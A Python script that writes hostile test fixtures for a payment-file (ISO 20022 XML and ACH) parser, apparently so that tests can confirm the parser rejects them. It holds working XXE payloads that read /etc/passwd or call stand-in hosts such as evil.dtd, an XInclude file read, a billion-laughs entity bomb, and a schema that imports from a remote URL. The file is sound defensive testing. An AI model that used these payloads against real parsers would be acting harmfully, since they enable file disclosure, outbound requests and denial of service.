#!/usr/bin/env python3
"""Write the small hostile fixtures of testdata/hostile/ (committed; rerun
only to change them).  The big ones are made on the fly by generate.sh.

Every hostile file carries MARK in a text field that would reach the output
if the parser let the file through, so the test can assert it never does."""
import gzip
import os
import random

MARK = "HOSTILE-MARKER-7F3A"
NS = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"


def pain(doctype="", cdtr_name="Creditor " + MARK, root_attrs=""):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{doctype}<Document xmlns="{NS}"{root_attrs}>
  <CstmrCdtTrfInitn>
    <GrpHdr>
      <MsgId>HOSTILE-MSG-1</MsgId>
      <CreDtTm>2026-11-29T23:00:00Z</CreDtTm>
      <NbOfTxs>1</NbOfTxs>
      <CtrlSum>123.45</CtrlSum>
      <InitgPty><Nm>Hostile Test Initiator</Nm></InitgPty>
    </GrpHdr>
    <PmtInf>
      <PmtInfId>HOSTILE-PMT-1</PmtInfId>
      <PmtMtd>TRF</PmtMtd>
      <NbOfTxs>1</NbOfTxs>
      <CtrlSum>123.45</CtrlSum>
      <ReqdExctnDt><Dt>2026-11-30</Dt></ReqdExctnDt>
      <Dbtr><Nm>Debtor Name</Nm></Dbtr>
      <DbtrAcct><Id><IBAN>DE89370400440532013000</IBAN></Id></DbtrAcct>
      <DbtrAgt><FinInstnId><BICFI>COBADEFFXXX</BICFI></FinInstnId></DbtrAgt>
      <CdtTrfTxInf>
        <PmtId><EndToEndId>HOSTILE-E2E-1</EndToEndId></PmtId>
        <Amt><InstdAmt Ccy="EUR">123.45</InstdAmt></Amt>
        <CdtrAgt><FinInstnId><BICFI>NWBKGB2LXXX</BICFI></FinInstnId></CdtrAgt>
        <Cdtr><Nm>{cdtr_name}</Nm></Cdtr>
        <CdtrAcct><Id><IBAN>GB29NWBK60161331926819</IBAN></Id></CdtrAcct>
        <RmtInf><Ustrd>Invoice 42</Ustrd></RmtInf>
      </CdtTrfTxInf>
    </PmtInf>
  </CstmrCdtTrfInitn>
</Document>
"""


def ach(name):
    """A valid one-entry PPD credit file (control totals right) with `name`
    as the receiver's individual name (22 bytes, may hold any bytes)."""
    name = name.ljust(22)[:22]
    lines = [
        b"101 121042882 2313801042611292300A094101" + b"Hostile Test Bank".ljust(23)
        + b"Hostile Originator".ljust(23) + b" " * 8,
        b"5220" + b"Hostile Co".ljust(16) + b" " * 20 + b"1231380104PPDPAYROLL   "
        + b" " * 6 + b"261130" + b"   " + b"1" + b"23138010" + b"0000001",
        b"622" + b"12104288" + b"2" + b"123456789".ljust(17) + b"0000012345"
        + b"ID-1".ljust(15) + name + b"  " + b"0" + b"231380100000001",
        b"8220" + b"000001" + b"0012104288" + b"0" * 12 + b"000000012345" + b"1231380104"
        + b" " * 25 + b"23138010" + b"0000001",
        b"9" + b"000001" + b"000001" + b"00000001" + b"0012104288" + b"0" * 12
        + b"000000012345" + b" " * 39,
    ]
    for line in lines:
        assert len(line) == 94, (len(line), line)
    lines += [b"9" * 94] * 5
    return b"\n".join(lines) + b"\n"


def write(name, data):
    with open(name, "wb") as f:
        f.write(data)


def main():
    os.chdir(os.path.dirname(os.path.abspath(__file__)))
    mark = MARK.encode()
    xml = {
        "control-valid.xml": pain(cdtr_name="Creditor Name"),
        "xxe-file.xml": pain('<!DOCTYPE Document [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
                             "&xxe; " + MARK),
        "xxe-http.xml": pain('<!DOCTYPE Document [\n  <!ENTITY xxe SYSTEM '
                             '"http://clearing-load-xxe.invalid/secret">\n]>\n', "&xxe; " + MARK),
        "xxe-parameter.xml": pain('<!DOCTYPE Document [\n  <!ENTITY % ext SYSTEM '
                                  '"http://127.0.0.1:9/evil.dtd">\n  %ext;\n]>\n'),
        "dtd-external.xml": pain('<!DOCTYPE Document SYSTEM '
                                 '"http://clearing-load-dtd.invalid/pain.001.dtd">\n'),
        "dtd-external-file.xml": pain('<!DOCTYPE Document SYSTEM "file:///etc/passwd">\n'),
        "internal-entity.xml": pain('<!DOCTYPE Document [\n  <!ENTITY nm "Entity Creditor">\n]>\n',
                                    "&nm; " + MARK),
        "schemaloc-url.xml": pain(cdtr_name="Creditor Name", root_attrs=(
            ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="'
            + NS + ' http://clearing-load-xsd.invalid/pain.001.001.09.xsd"')),
        # valid apart from the include, which must stay an unknown element:
        # the test checks that nothing of /etc/passwd comes out
        "xinclude.xml": pain(cdtr_name='Creditor <xi:include '
                             'xmlns:xi="http://www.w3.org/2001/XInclude" '
                             'href="file:///etc/passwd" parse="text"/>'),
        "nul-byte.xml": pain(cdtr_name="Creditor \x00 " + MARK),
    }
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)]
    xml["billion-laughs.xml"] = pain("<!DOCTYPE Document [\n  " + "\n  ".join(lol) + "\n]>\n",
                                     "&lol9; " + MARK)
    for name, text in xml.items():
        write(name, text.encode("utf-8"))
    write("truncated.xml", pain().encode()[:1100])
    # C3 28: a lead byte followed by no continuation byte; FF never occurs in UTF-8
    write("invalid-utf8.xml", pain().encode().replace(b"Creditor ", b"Creditor \xc3\x28\xff "))
    u16 = pain().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    write("utf16.xml", b"\xff\xfe" + u16.encode("utf-16-le"))
    write("utf16-no-bom.xml", u16.encode("utf-16-le"))

    write("control-valid.ach", ach(b"Receiver Name"))
    write("nul-bytes.ach", ach(b"Recv\x00\x00Name " + mark[:8]))
    write("invalid-utf8.ach", ach(b"Recv \xff\xfe\xc3\x28 " + mark[:8]))
    write("truncated.ach", ach(b"Receiver " + mark[:13])[:94 * 3 + 3 + 40])

    # for validate --schema: imports and includes must not reach the network,
    # and nothing of a referenced file may be printed
    write("schema-import-url.xsd", b"""<?xml version="1.0" encoding="UTF-8"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"
           targetNamespace="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"
           elementFormDefault="qualified">
  <xs:import namespace="urn:evil" schemaLocation="http://127.0.0.1:9/evil.xsd"/>
  <xs:include schemaLocation="file:///etc/passwd"/>
  <xs:element name="Document" type="xs:anyType"/>
</xs:schema>
""")

    rnd = random.Random(20261129)
    garbage = bytes(rnd.getrandbits(8) for _ in range(4096))
    write("binary-garbage.bin", b"\x00\x01" + garbage)
    write("binary-garbage.ach", b"101" + garbage)
    write("binary-garbage.xml", b"<" + garbage)

    gz = gzip.compress(ach(b"Receiver " + mark[:13]), 9, mtime=0)
    write("truncated.ach.gz", gz[:len(gz) // 2])
    write("gzip-trailing-garbage.ach.gz", gz + mark + b" trailing bytes\n")
    write("gzip-corrupt.ach.gz", gz[:30] + bytes(b ^ 0x55 for b in gz[30:60]) + gz[60:])


if __name__ == "__main__":
    main()
